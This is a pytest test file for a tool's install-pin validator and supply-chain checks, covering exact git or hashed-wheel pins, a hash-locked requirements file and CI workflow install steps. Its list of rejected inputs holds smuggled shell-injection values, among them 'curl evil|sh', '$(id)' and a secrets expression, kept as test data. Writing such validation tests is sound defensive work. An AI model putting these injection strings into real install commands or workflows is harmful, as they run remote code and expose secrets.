"""Pinned installs: the pin forms init accepts, how it learns one from pip's record, the
hash-locked dependency file, and that no workflow (shipped or scaffolded) installs a name."""

from __future__ import annotations

import json
import re
import shlex
import tomllib
from pathlib import Path

import pytest
from packaging.requirements import Requirement
from packaging.version import Version

from reconciler.config import pin, scaffold
from reconciler.config.resources import requirements_dir, workflows_dir
from reconciler.core.errors import ReconcileError

SHA = "0123456789abcdef0123456789abcdef01234567"
DIGEST = "ab" * 32
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (f"git+https://github.com/msp/zerotek-cw-reconciler@{SHA}", "git"),
        (f"git+https://git.example.com:8443/a/b.git@{SHA}", "git"),
        (f"https://files.example.com/dist/zerotek_cw_reconciler-1.0-py3-none-any.whl#sha256={DIGEST}",
         "wheel"),
    ],
)  # fmt: skip
def test_exact_sources_are_accepted(text: str, kind: str) -> None:
    assert pin.parse_pin(f" {text} ") == pin.Pin(text, kind)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "text",
    [
        "zerotek-cw-reconciler==0.1.0",  # a name: whoever registers it gets the write keys
        "git+https://github.com/msp/zerotek-cw-reconciler@main",  # a branch moves
        "git+https://github.com/msp/zerotek-cw-reconciler@v1.0",  # so can a tag
        f"git+https://github.com/msp/zerotek-cw-reconciler@{SHA[:12]}",  # abbreviated
        f"git+https://github.com/msp/zerotek-cw-reconciler@{SHA.upper()}",
        f"git+http://github.com/msp/zerotek-cw-reconciler@{SHA}",  # plain http
        f"git+https://user:tok@github.com/msp/r@{SHA}",  # a credential in a workflow
        f"git+https://github.com/msp/r'; curl evil|sh; '@{SHA}",  # shell injection
        f"git+https://github.com/msp/${{{{secrets.CW_PRIVATE_KEY}}}}@{SHA}",  # an expression
        f"git+https://github.com/msp/$(id)@{SHA}",
        f"git+https://github.com/msp/`id`@{SHA}",
        "https://files.example.com/x-1.0-py3-none-any.whl",  # no hash
        f"https://files.example.com/x-1.0.tar.gz#sha256={DIGEST}",  # an sdist runs code
        f"file:///tmp/x-1.0-py3-none-any.whl#sha256={DIGEST}",  # CI cannot reach it
        f"https://files.example.com/x.whl#md5={DIGEST[:32]}",
    ],
)
def test_anything_inexact_is_refused(text: str) -> None:
    with pytest.raises(ReconcileError, match="not an exact source"):
        pin.parse_pin(text)


@pytest.mark.parametrize(
    ("direct_url", "expected"),
    [
        ({"url": "https://github.com/msp/r", "vcs_info": {"vcs": "git", "commit_id": SHA,
          "requested_revision": "main"}}, f"git+https://github.com/msp/r@{SHA}"),
        ({"url": "https://f.example/z-1-py3-none-any.whl",
          "archive_info": {"hashes": {"sha256": DIGEST}}},
         f"https://f.example/z-1-py3-none-any.whl#sha256={DIGEST}"),
        ({"url": "https://f.example/z-1-py3-none-any.whl",
          "archive_info": {"hash": f"sha256={DIGEST}"}},
         f"https://f.example/z-1-py3-none-any.whl#sha256={DIGEST}"),
        ({"url": "https://f.example/z-1-py3-none-any.whl", "archive_info": {}}, None),
        ({"url": "file:///work/wt", "dir_info": {"editable": True}}, None),
        ({"url": "file:///tmp/z-1-py3-none-any.whl",
          "archive_info": {"hashes": {"sha256": DIGEST}}}, None),
        ({"url": "https://github.com/msp/r", "vcs_info": {"vcs": "hg", "commit_id": SHA}}, None),
    ],
)  # fmt: skip
def test_the_pin_pip_recorded_at_install(direct_url: dict[str, object], expected: str) -> None:
    found = pin.pin_from_direct_url(json.dumps(direct_url))
    assert (found.url if found else None) == expected


def test_an_unreadable_record_gives_no_pin() -> None:
    assert pin.pin_from_direct_url("{not json") is None
    assert pin.pin_from_direct_url("[]") is None


# --- the lock file ---------------------------------------------------------------------------


def _locked() -> dict[str, tuple[Version, list[str]]]:
    """name -> (version, hashes) from requirements/locked.txt."""
    text = (requirements_dir() / "locked.txt").read_text(encoding="utf-8")
    entries: dict[str, tuple[Version, list[str]]] = {}
    for block in re.split(r"\n(?=\S)", text):
        m = re.match(r"([A-Za-z0-9._-]+)==(\S+)", block)
        if m:
            name = m.group(1).lower().replace("_", "-")
            entries[name] = (
                Version(m.group(2)),
                re.findall(r"--hash=sha256:([0-9a-f]{64})", block),
            )
    return entries


def test_every_runtime_dependency_is_locked_with_hashes_and_satisfies_pyproject() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    locked = _locked()
    assert all(hashes for _, hashes in locked.values()), "an entry without --hash"
    for spec in project["project"]["dependencies"]:
        req = Requirement(spec)
        name = req.name.lower()
        assert name in locked, f"{name} is in pyproject.toml but not in requirements/locked.txt"
        assert req.specifier.contains(locked[name][0]), f"{name} {locked[name][0]} !~ {spec}"
    # --no-build-isolation builds the checkout (or a git pin) with the lock's setuptools.
    backend = Requirement(project["build-system"]["requires"][0])
    assert backend.specifier.contains(locked[backend.name][0])


# Runtime dependencies the package never imports, each for a reason pyproject.toml gives.
NOT_IMPORTED = {
    "tzdata": "zoneinfo's fallback database",
}
IMPORT_NAME = {"pyyaml": "yaml"}


def test_every_runtime_dependency_is_used() -> None:
    """A dependency is installed everywhere (and locked with hashes): it must earn its place.
    Found: deepdiff, listed for stale-plan diffs, was imported nowhere."""
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    code = "\n".join(p.read_text(encoding="utf-8") for p in (ROOT / "reconciler").rglob("*.py"))
    for spec in project["project"]["dependencies"]:
        name = Requirement(spec).name.lower()
        module = IMPORT_NAME.get(name, name.replace("-", "_"))
        imported = re.search(rf"^\s*(from|import) {module}\b", code, re.M) is not None
        assert imported != (name in NOT_IMPORTED), f"{name}: imported={imported}"


# --- no workflow installs a name -------------------------------------------------------------


def _pip_installs(text: str) -> list[list[str]]:
    commands = []
    for line in text.splitlines():
        line = line.split(" && ")[0].strip()
        if re.match(r"python -m pip install\b|pip install\b", line):
            commands.append(shlex.split(line))
    return commands


def _assert_pinned(workflow: str, text: str, *, checkout: bool) -> int:
    installs = _pip_installs(text)
    for args in installs:
        targets = [a for a in args[args.index("install") + 1 :] if not a.startswith("-")]
        if "-r" in args:
            assert "--require-hashes" in args and targets == ["requirements/locked.txt"], args
        elif checkout:
            assert targets == ["."] and "--no-deps" in args, f"{workflow}: {args}"
        else:
            (target,) = targets
            name, _, url = target.partition(" @ ")
            assert name == pin.DIST_NAME and pin.parse_pin(url), f"{workflow}: {args}"
            assert "--no-deps" in args
    return len(installs)


def test_shipped_workflows_install_the_checkout_and_locked_hashes_only() -> None:
    for path in sorted(workflows_dir().glob("*.yml")):
        if path.name == "tests.yml":  # the reconciler's own CI installs its test tools
            continue
        assert _assert_pinned(path.name, path.read_text(encoding="utf-8"), checkout=True) >= 2


@pytest.mark.parametrize(
    "source",
    [f"git+https://github.com/msp/zerotek-cw-reconciler@{SHA}",
     f"https://files.example.com/zerotek_cw_reconciler-1.0-py3-none-any.whl#sha256={DIGEST}"],
)  # fmt: skip
def test_init_workflows_install_exactly_the_pin(tmp_path: Path, source: str) -> None:
    scaffold.init(tmp_path, pin.parse_pin(source))
    for name in scaffold.WORKFLOW_FILES:
        text = (tmp_path / ".github/workflows" / name).read_text(encoding="utf-8")
        assert pin.CHECKOUT_INSTALL not in text
        assert _assert_pinned(name, text, checkout=False) >= 2
        assert f"'{pin.DIST_NAME} @ {source}'" in text
    assert (tmp_path / "requirements/locked.txt").read_bytes() == (
        requirements_dir() / "locked.txt"
    ).read_bytes()


def test_init_without_a_pin_writes_an_install_step_that_fails_saying_why(tmp_path: Path) -> None:
    scaffold.init(tmp_path, None)
    for name in scaffold.WORKFLOW_FILES:
        text = (tmp_path / ".github/workflows" / name).read_text(encoding="utf-8")
        installs = _pip_installs(text)
        assert installs and all("-r" in args for args in installs)  # only the hashed lock
        assert "::error title=Reconciler not pinned::" in text
